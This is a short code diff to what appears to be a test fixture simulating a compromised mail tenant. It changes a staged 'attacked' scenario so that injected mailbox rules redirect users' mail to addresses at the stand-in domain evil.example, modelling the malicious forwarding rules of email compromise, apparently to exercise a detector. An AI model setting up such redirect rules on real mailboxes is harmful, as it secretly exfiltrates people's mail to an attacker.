@@ -37,7 +37,10 @@ DOWN: dict[str, dict[str, Any]] = {
 def attacked(stage: Staged, *people: int) -> None:
     """A new rule that sends mail on, in some mailboxes."""
     rules = dict(stage.box.tenant.scene["graph"]["messageRules"])
-    rules |= {PEOPLE[number]: [rule(f"new-{number}", f"rule {number}")] for number in people}
+    for number in people:
+        target = {"emailAddress": {"address": f"to-{number}@evil.example"}}
+        actions = {"redirectTo": [target]}
+        rules[PEOPLE[number]] = [rule(f"new-{number}", f"rule {number}", actions=actions)]
     stage.box.tenant.merge({"graph": {"messageRules": rules}})
 
 
